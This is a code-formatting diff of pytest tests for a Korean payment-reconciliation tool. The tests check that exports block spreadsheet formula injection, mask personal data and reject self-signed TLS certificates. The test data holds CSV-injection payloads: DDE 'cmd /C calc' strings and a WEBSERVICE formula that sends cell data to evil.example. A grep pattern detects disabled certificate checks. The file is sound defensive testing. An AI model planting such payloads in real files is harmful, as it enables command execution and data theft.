@@ -29,15 +29,21 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from trust_support import ROOT, kst
 
 from recon_app.sandbox.server import SandboxServer
 from recon_app.sandbox.store import SandboxStore
-from trust_support import ROOT, kst
 
-HOSTILE = ['=HYPERLINK("http://evil.example","클릭")', "+82-10-1234", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example","클릭")',
+    "+82-10-1234",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 API_BUYER = "=cmd|' /C calc'!A0"
-API_PRODUCT = "=WEBSERVICE(\"http://evil.example/?\"&A1)"
+API_PRODUCT = '=WEBSERVICE("http://evil.example/?"&A1)'
 EMAIL, PHONE = "victim.person@example.com", "010-9876-5432"
 FULL_CARD = "4111111111111111"
 
@@ -46,7 +52,7 @@ def _orders_file(path: Path) -> None:
     rows = ["주문번호,주문일시,결제금액,주문상태,주문자명,상품명"]
     for i, name in enumerate(HOSTILE):
         quoted = '"' + name.replace('"', '""') + '"'
-        rows.append(f"H-{i},2026-10-0{1 + i} 10:00:00,{1000 * (i + 1)},결제완료,{quoted},\"=1+1\"")
+        rows.append(f'H-{i},2026-10-0{1 + i} 10:00:00,{1000 * (i + 1)},결제완료,{quoted},"=1+1"')
     rows.append("H-9,2026-10-09 10:00:00,5000,결제완료,홍길동,양말")
     path.write_text("\n".join(rows) + "\n", encoding="utf-8")
 
@@ -64,18 +70,46 @@ def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     tmp = tmp_path_factory.mktemp("privacy")
     store = SandboxStore()
     at = kst(2026, 10, 3, 12)
-    store.add({"imp_uid": "imp_200000000001", "merchant_uid": "H-9", "amount": 5000, "status": "paid",
-               "pay_method": "card", "pg_provider": "kcp", "paid_at": at, "buyer_name": "홍길동",
-               "buyer_email": EMAIL, "buyer_tel": PHONE, "card_number": FULL_CARD, "name": API_PRODUCT})
-    store.add({"imp_uid": "imp_200000000002", "merchant_uid": "NO-ORDER-1", "amount": 7000, "status": "paid",
-               "pay_method": "card", "pg_provider": "kcp", "paid_at": at + 60, "buyer_name": API_BUYER,
-               "buyer_email": EMAIL, "buyer_tel": PHONE, "card_number": "4111-1111-1111-1111",
-               "name": API_PRODUCT})
+    store.add(
+        {
+            "imp_uid": "imp_200000000001",
+            "merchant_uid": "H-9",
+            "amount": 5000,
+            "status": "paid",
+            "pay_method": "card",
+            "pg_provider": "kcp",
+            "paid_at": at,
+            "buyer_name": "홍길동",
+            "buyer_email": EMAIL,
+            "buyer_tel": PHONE,
+            "card_number": FULL_CARD,
+            "name": API_PRODUCT,
+        }
+    )
+    store.add(
+        {
+            "imp_uid": "imp_200000000002",
+            "merchant_uid": "NO-ORDER-1",
+            "amount": 7000,
+            "status": "paid",
+            "pay_method": "card",
+            "pg_provider": "kcp",
+            "paid_at": at + 60,
+            "buyer_name": API_BUYER,
+            "buyer_email": EMAIL,
+            "buyer_tel": PHONE,
+            "card_number": "4111-1111-1111-1111",
+            "name": API_PRODUCT,
+        }
+    )
     db = tmp / "ledger.sqlite3"
     led = open_ledger(db)
     with SandboxServer(store, port=0) as server:
-        sync_payments(led, SyncRequest(date(2026, 10, 1), date(2026, 10, 31), api_base=server.base_url),
-                      Credentials(server.imp_key, server.imp_secret))
+        sync_payments(
+            led,
+            SyncRequest(date(2026, 10, 1), date(2026, 10, 31), api_base=server.base_url),
+            Credentials(server.imp_key, server.imp_secret),
+        )
     orders = tmp / "orders.csv"
     _orders_file(orders)
     import_orders(led, orders)
@@ -85,9 +119,11 @@ def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     for masked in (False, True):
         d = tmp / ("masked" if masked else "plain")
         d.mkdir()
-        out[masked] = {"xlsx": export_xlsx(result, d / "r.xlsx", mask_personal=masked),
-                       "csv": export_csv(result, d / "r.csv", mask_personal=masked),
-                       "json": export_json(result, d / "r.json")}
+        out[masked] = {
+            "xlsx": export_xlsx(result, d / "r.xlsx", mask_personal=masked),
+            "csv": export_csv(result, d / "r.csv", mask_personal=masked),
+            "json": export_json(result, d / "r.json"),
+        }
     return out
 
 
@@ -100,7 +136,13 @@ def _xlsx_texts(path: Path) -> list[str]:
     import openpyxl
 
     wb = openpyxl.load_workbook(path, read_only=True)
-    texts = [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
+    texts = [
+        c
+        for ws in wb.worksheets
+        for row in ws.iter_rows(values_only=True)
+        for c in row
+        if isinstance(c, str)
+    ]
     wb.close()
     return texts
 
@@ -129,9 +171,22 @@ def test_xlsx_has_no_formula_and_keeps_the_text(reports: dict[str, Any]) -> None
 def test_csv_neutralises_every_formula_prefix(reports: dict[str, Any]) -> None:
     cells = _csv_cells(reports[False]["csv"])
     header, body = cells[0], cells[1:]
-    money = {"주문금액", "쇼핑몰 환불", "PG 결제", "PG 취소", "차이", "수수료", "수수료 부가세", "정산 예정액"}
-    risky = [(header[i], c) for row in body for i, c in enumerate(row)
-             if c[:1] in ("=", "+", "-", "@", "\t", "\r") and header[i] not in money]
+    money = {
+        "주문금액",
+        "쇼핑몰 환불",
+        "PG 결제",
+        "PG 취소",
+        "차이",
+        "수수료",
+        "수수료 부가세",
+        "정산 예정액",
+    }
+    risky = [
+        (header[i], c)
+        for row in body
+        for i, c in enumerate(row)
+        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and header[i] not in money
+    ]
     assert not risky, risky
     flat = [c for row in body for c in row]
     for name in [h.strip() for h in HOSTILE] + [API_BUYER]:
@@ -145,7 +200,9 @@ def test_csv_neutralises_every_formula_prefix(reports: dict[str, Any]) -> None:
 def test_product_names_are_not_exported(reports: dict[str, Any]) -> None:
     for masked in (False, True):
         for kind, path in reports[masked].items():
-            blob = path.read_bytes() if kind != "xlsx" else "".join(_xlsx_xml(path).values()).encode()
+            blob = (
+                path.read_bytes() if kind != "xlsx" else "".join(_xlsx_xml(path).values()).encode()
+            )
             assert API_PRODUCT.encode() not in blob and b"WEBSERVICE" not in blob, kind
 
 
@@ -159,7 +216,9 @@ def test_mask_personal_hides_names_and_email_phone_never_leave(reports: dict[str
         assert not any(t.lstrip("'") == name for t in texts), name
     for flag in (False, True):
         for kind, path in reports[flag].items():
-            blob = path.read_bytes() if kind != "xlsx" else "".join(_xlsx_xml(path).values()).encode()
+            blob = (
+                path.read_bytes() if kind != "xlsx" else "".join(_xlsx_xml(path).values()).encode()
+            )
             for secret in (EMAIL, PHONE, "9876-5432", "victim.person"):
                 assert secret.encode() not in blob, (flag, kind, secret)
     doc = json.loads(masked["json"].read_text(encoding="utf-8"))
@@ -169,9 +228,26 @@ def test_mask_personal_hides_names_and_email_phone_never_leave(reports: dict[str
 def test_mask_personal_through_the_cli(reports: dict[str, Any], tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
     from recon_app.cli.main import main
 
-    assert main(["--db", str(reports["db"]), "reconcile", "--month", "2026-10", "--mask-personal",
-                 "--xlsx", str(tmp_path / "r.xlsx"), "--csv", str(tmp_path / "r.csv")]) == 0
-    texts = _xlsx_texts(tmp_path / "r.xlsx") + [c for row in _csv_cells(tmp_path / "r.csv") for c in row]
+    assert (
+        main(
+            [
+                "--db",
+                str(reports["db"]),
+                "reconcile",
+                "--month",
+                "2026-10",
+                "--mask-personal",
+                "--xlsx",
+                str(tmp_path / "r.xlsx"),
+                "--csv",
+                str(tmp_path / "r.csv"),
+            ]
+        )
+        == 0
+    )
+    texts = _xlsx_texts(tmp_path / "r.xlsx") + [
+        c for row in _csv_cells(tmp_path / "r.csv") for c in row
+    ]
     assert "홍*동" in texts and "홍길동" not in texts
 
 
@@ -198,13 +274,25 @@ def test_client_for_the_real_api_verifies_certificates() -> None:
 
 def test_no_code_path_turns_verification_off() -> None:
     """Grep over the app (the behavioural test below covers the path actually taken)."""
-    pattern = re.compile(r"verify\s*=\s*(False|0|None)|CERT_NONE|check_hostname\s*=\s*False|"
-                         r"_create_unverified_context|PYTHONHTTPSVERIFY|SSL_CERT_FILE|REQUESTS_CA_BUNDLE")
-    hits = [f"{p.relative_to(ROOT)}:{i}" for p in (ROOT / "recon_app").rglob("*.py")
-            for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
+    pattern = re.compile(
+        r"verify\s*=\s*(False|0|None)|CERT_NONE|check_hostname\s*=\s*False|"
+        r"_create_unverified_context|PYTHONHTTPSVERIFY|SSL_CERT_FILE|REQUESTS_CA_BUNDLE"
+    )
+    hits = [
+        f"{p.relative_to(ROOT)}:{i}"
+        for p in (ROOT / "recon_app").rglob("*.py")
+        for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
+        if pattern.search(line)
+    ]
     assert not hits, hits
-    clients = [f"{p.relative_to(ROOT)}" for p in (ROOT / "recon_app").rglob("*.py")
-               if "sandbox" not in p.parts and re.search(r"httpx\.(Client|AsyncClient|get|post|request)\(", p.read_text(encoding="utf-8"))]
+    clients = [
+        f"{p.relative_to(ROOT)}"
+        for p in (ROOT / "recon_app").rglob("*.py")
+        if "sandbox" not in p.parts
+        and re.search(
+            r"httpx\.(Client|AsyncClient|get|post|request)\(", p.read_text(encoding="utf-8")
+        )
+    ]
     # One place builds HTTP clients (the sandbox is the local server, it never calls out).
     assert clients == ["recon_app/adapters/portone/client.py"], clients
 
@@ -213,9 +301,27 @@ def test_no_code_path_turns_verification_off() -> None:
 def self_signed_https(tmp_path: Path):  # type: ignore[no-untyped-def]
     """An https server on 127.0.0.1 with a self-signed certificate (what a MITM proxy shows)."""
     key, cert = tmp_path / "k.pem", tmp_path / "c.pem"
-    made = subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key),
-                           "-out", str(cert), "-days", "1", "-subj", "/CN=127.0.0.1",
-                           "-addext", "subjectAltName=IP:127.0.0.1"], capture_output=True)
+    made = subprocess.run(
+        [
+            "openssl",
+            "req",
+            "-x509",
+            "-newkey",
+            "rsa:2048",
+            "-nodes",
+            "-keyout",
+            str(key),
+            "-out",
+            str(cert),
+            "-days",
+            "1",
+            "-subj",
+            "/CN=127.0.0.1",
+            "-addext",
+            "subjectAltName=IP:127.0.0.1",
+        ],
+        capture_output=True,
+    )
     if made.returncode != 0:
         pytest.skip(f"openssl not available: {made.stderr[:200]!r}")
     hits: list[str] = []
@@ -248,8 +354,13 @@ def test_self_signed_certificate_is_refused(self_signed_https, ledger) -> None: 
 
     base, hits = self_signed_https
     with pytest.raises((ApiError, CredentialsError)) as err:
-        sync_payments(ledger, SyncRequest(date(2026, 10, 1), date(2026, 10, 31), api_base=base),
-                      Credentials("key-123456", "secret-123456"),
-                      options=ClientOptions(max_attempts=2, backoff_base=0.01, connect_timeout=2))
-    assert "CERTIFICATE_VERIFY_FAILED" in str(err.value) or "인증서" in str(err.value), str(err.value)
+        sync_payments(
+            ledger,
+            SyncRequest(date(2026, 10, 1), date(2026, 10, 31), api_base=base),
+            Credentials("key-123456", "secret-123456"),
+            options=ClientOptions(max_attempts=2, backoff_base=0.01, connect_timeout=2),
+        )
+    assert "CERTIFICATE_VERIFY_FAILED" in str(err.value) or "인증서" in str(err.value), str(
+        err.value
+    )
     assert hits == []  # the key and secret were never sent
